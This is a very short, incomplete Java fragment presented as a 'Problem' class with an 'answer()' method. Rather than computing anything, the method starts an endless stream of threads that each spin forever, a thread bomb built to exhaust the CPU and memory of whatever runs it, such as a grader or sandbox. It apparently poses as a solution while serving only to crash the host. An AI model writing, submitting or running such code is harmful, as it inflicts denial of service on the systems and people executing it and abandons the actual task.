class Problem {
 static int answer() { for (int i = 0; ; i++) new Thread(() -> { while (true); }).start(); }
